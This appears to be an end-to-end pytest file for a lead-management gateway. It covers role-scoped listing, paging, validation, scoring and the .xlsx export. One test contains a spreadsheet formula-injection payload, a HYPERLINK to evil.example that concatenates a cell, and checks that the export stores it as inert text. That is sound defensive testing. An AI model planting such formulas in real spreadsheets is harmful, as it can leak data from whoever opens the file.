"""Qualified fields and score, the scoped lead list and its .xlsx export, through the gateway."""

from __future__ import annotations

import io
import uuid
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import httpx
import pytest
from gateway.demo_company import PEOPLE
from openpyxl import load_workbook

from tests.e2e.channels import qr_key, qr_scan
from tests.e2e.helpers import assigned_lead, login, submit, web_form

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def client(stack) -> httpx.Client:
    with httpx.Client(base_url=stack.gateway_url, timeout=30) as c:
        yield c


@pytest.fixture(scope="module")
def tagged(stack, client) -> dict:
    """Three east leads and one south lead whose companies share a unique tag, assigned."""
    tag = uuid.uuid4().hex[:8]
    director = login(client, "director")
    leads = []
    for i, province in enumerate(["江苏", "浙江", "上海", "广东"]):
        form = web_form(company=f"{tag}精工{i}有限公司", province=province)
        lead_id = submit(client, stack.intake_api_key, form).json()["lead_id"]
        leads.append(assigned_lead(client, director, lead_id))
    return {"tag": tag, "leads": leads, "director": director}


def _ids(client: httpx.Client, headers: dict, **params) -> list[str]:
    response = client.get("/api/v1/leads", params=params, headers=headers)
    assert response.status_code == 200, response.text
    return [item["id"] for item in response.json()["items"]]


def test_list_is_scoped_rep_own_manager_regions_director_all(client, tagged) -> None:
    tag, leads = tagged["tag"], tagged["leads"]
    assert len(_ids(client, tagged["director"], q=tag)) == 4
    east = {lead["id"] for lead in leads[:3]}
    assert set(_ids(client, login(client, "mgr-east"), q=tag)) == east
    assert _ids(client, login(client, "mgr-south"), q=tag) == [leads[3]["id"]]
    owner = leads[0]["owner_username"]
    mine = {lead["id"] for lead in leads if lead["owner_username"] == owner}
    assert set(_ids(client, login(client, owner), q=tag)) == mine


def test_list_pages_with_an_opaque_cursor_newest_first(client, tagged) -> None:
    director, tag = tagged["director"], tagged["tag"]
    first = client.get("/api/v1/leads", params={"q": tag, "limit": 3}, headers=director).json()
    assert len(first["items"]) == 3 and first["next_cursor"]
    second = client.get("/api/v1/leads", params={"q": tag, "limit": 3,
                                                 "cursor": first["next_cursor"]},
                        headers=director).json()
    assert second["next_cursor"] is None
    seen = [i["id"] for i in first["items"] + second["items"]]
    assert seen == [lead["id"] for lead in reversed(tagged["leads"])]


def test_fresh_leads_are_not_overdue(client, tagged) -> None:
    director, tag = tagged["director"], tagged["tag"]
    assert _ids(client, director, q=tag, overdue="true") == []
    assert len(_ids(client, director, q=tag, overdue="false")) == 4


def test_list_filters_by_created_day_in_shanghai_and_by_phone_text(client, tagged) -> None:
    director, tag = tagged["director"], tagged["tag"]
    today = datetime.now(ZoneInfo("Asia/Shanghai")).date()
    assert len(_ids(client, director, q=tag, created_from=str(today),
                    created_to=str(today))) == 4
    assert _ids(client, director, q=tag, created_from=str(today + timedelta(days=1))) == []
    phone_digits = tagged["leads"][1]["phone"][-8:]
    assert tagged["leads"][1]["id"] in _ids(client, director, q=phone_digits)


@pytest.mark.parametrize(("params", "field"), [
    ({"overdue": "maybe"}, "overdue"), ({"limit": "101"}, "limit"),
    ({"created_from": "yesterday"}, "created_from"), ({"cursor": "garbage"}, "cursor"),
    # A typo'd status matched nothing: an empty list read as "no such leads".
    ({"status": "assined"}, "status"),
])
def test_bad_list_parameters_are_422_naming_the_field(client, tagged, params, field) -> None:
    response = client.get("/api/v1/leads", params=params, headers=tagged["director"])
    assert response.status_code == 422, response.text
    assert response.json()["field"] == field


def test_owner_sets_qualified_fields_and_sees_the_score_with_its_factors(client, tagged) -> None:
    lead = tagged["leads"][0]
    owner = login(client, lead["owner_username"])
    response = client.patch(f"/api/v1/leads/{lead['id']}", headers=owner, json={
        "urgency": "高", "budget_yuan": "80万", "company_scale": ">1000",
        "pain_point": "老设备能耗高", "tags": ["重点"],
        "decision_chain": [{"name": "张总", "title": "总经理", "role": "decider"},
                           {"name": "李工", "title": "设备科", "role": "influencer"}]})
    assert response.status_code == 200, response.text
    body = response.json()
    assert (body["urgency"], body["budget_fen"], body["company_scale"]) == (
        "high", 80_000_000, "gt1000")
    factors = {f["factor"]: f for f in body["score_factors"]}
    assert {"budget", "urgency", "company_scale", "decision_chain", "source"} <= set(factors)
    assert body["score"] == sum(f["points"] for f in body["score_factors"])
    assert factors["urgency"]["reason_zh"] == "紧急程度高"
    read = client.get(f"/api/v1/leads/{lead['id']}", headers=owner).json()
    assert read["score"] == body["score"]


def test_others_cannot_update_and_bad_values_are_422_naming_the_field(client, tagged) -> None:
    lead = tagged["leads"][3]  # south
    path = f"/api/v1/leads/{lead['id']}"
    assert client.patch(path, json={"urgency": "高"},
                        headers=login(client, "mgr-east")).status_code == 404
    director = tagged["director"]
    for body, field in [({"budget_yuan": "12.345"}, "budget_yuan"),
                        ({"budget_fen": 12.5}, "budget_fen"),
                        ({"urgency": "马上"}, "urgency"),
                        ({"company_scale": "很大"}, "company_scale")]:
        response = client.patch(path, json=body, headers=director)
        assert response.status_code == 422, (body, response.text)
        assert response.json()["field"] == field


def test_a_patch_with_three_bad_fields_is_told_all_three_at_once(client, tagged) -> None:
    lead = tagged["leads"][3]
    response = client.patch(f"/api/v1/leads/{lead['id']}", headers=tagged["director"], json={
        "company_scale": "很大", "budget_yuan": "abc", "urgency": "马上", "pain_point": "交期"})
    assert response.status_code == 422, response.text
    problem = response.json()
    assert problem["field"] == "company_scale"
    assert [e["field"] for e in problem["errors"]] == ["company_scale", "budget_yuan", "urgency"]


def test_export_has_zh_headers_and_only_the_rows_the_caller_may_see(client, tagged) -> None:
    response = client.get("/api/v1/leads/export.xlsx", params={"q": tagged["tag"]},
                          headers=login(client, "mgr-east"))
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:6] == ("姓名", "公司", "电话", "邮箱", "省份", "行业")
    companies = {row[1] for row in rows[1:]}
    assert companies == {lead["company"] for lead in tagged["leads"][:3]}
    # The owner as managers know them, and as every other export writes people: 周婷.
    names = {p.username: p.display_name for p in PEOPLE}
    owners = {row[rows[0].index("负责人")] for row in rows[1:]}
    assert owners == {names[lead["owner_username"]] for lead in tagged["leads"][:3]}
    created = rows[1][rows[0].index("创建时间")]
    assert isinstance(created, datetime)
    assert abs(created - datetime.now(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)) \
        < timedelta(minutes=10)


def test_a_web_form_written_like_a_formula_is_exported_as_plain_text(stack, client) -> None:
    tag = uuid.uuid4().hex[:8]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看报价")'
    lead_id = submit(client, stack.intake_api_key,
                     web_form(name=formula, company=f"{tag}精工")).json()["lead_id"]
    director = login(client, "director")
    assigned_lead(client, director, lead_id)
    response = client.get("/api/v1/leads/export.xlsx", params={"q": tag}, headers=director)
    sheet = load_workbook(io.BytesIO(response.content)).active
    # The manager opening the export must not run what a stranger typed into a public form.
    name = sheet.cell(row=2, column=1)
    assert (name.value, name.data_type) == (formula, "s")


def test_a_trade_show_lead_exports_with_its_wechat_id_title_event_and_notes(stack, client) -> None:
    """A visitor who left only a WeChat id at the booth: the manager's export is the list
    they call from, so it carries the WeChat id (their only contact), the title, the show
    and booth, and what they said, as the list does."""
    tag = uuid.uuid4().hex[:8]
    scan = qr_scan(company=f"{tag}液压有限公司", phone="", wechat_id=f"wx_{tag}")
    accepted = client.post("/api/v1/intake/qr-scan", json=scan,
                           headers={"X-Api-Key": qr_key(stack)})
    assert accepted.status_code == 202, accepted.text
    director = login(client, "director")
    assigned_lead(client, director, accepted.json()["lead_id"])
    response = client.get("/api/v1/leads/export.xlsx", params={"q": tag}, headers=director)
    rows = list(load_workbook(io.BytesIO(response.content), read_only=True).active
                .iter_rows(values_only=True))
    row = dict(zip(rows[0], rows[1], strict=False))  # read-only drops trailing empties
    assert (row["微信"], row["职位"], row["展会"], row["展位"], row["留言"]) == (
        f"wx_{tag}", "采购经理", scan["event"], scan["booth"], "对液压站感兴趣")
    assert isinstance(row["首次联系截止"], datetime)


def test_the_export_says_which_provinces_were_guessed_as_the_list_does(stack, client) -> None:
    """A badge scan without a province takes its mobile's 归属地 (江苏); the list says so
    (`province_source`), and so must the export a manager calls from — else a guessed
    江苏 reads like one the customer gave, next to a web form's 浙江 that they did."""
    tag = uuid.uuid4().hex[:8]
    scan = qr_scan(company=f"{tag}泵业有限公司", province="",
                   phone=f"1381234{uuid.uuid4().int % 10**4:04d}")
    scanned = client.post("/api/v1/intake/qr-scan", json=scan,
                          headers={"X-Api-Key": qr_key(stack)})
    assert scanned.status_code == 202, scanned.text
    typed = submit(client, stack.intake_api_key,
                   web_form(company=f"{tag}精工有限公司", province="浙江"))
    director = login(client, "director")
    guessed = assigned_lead(client, director, scanned.json()["lead_id"])
    assigned_lead(client, director, typed.json()["lead_id"])
    assert guessed["province_source"] == "mobile"
    response = client.get("/api/v1/leads/export.xlsx", params={"q": tag}, headers=director)
    rows = list(load_workbook(io.BytesIO(response.content), read_only=True).active
                .iter_rows(values_only=True))
    by_company = {row[1]: dict(zip(rows[0], row, strict=False)) for row in rows[1:]}
    assert (by_company[f"{tag}泵业有限公司"]["省份"],
            by_company[f"{tag}泵业有限公司"]["省份来源"]) == ("江苏", "手机号归属地推断")
    assert by_company[f"{tag}精工有限公司"]["省份来源"] == "填写"
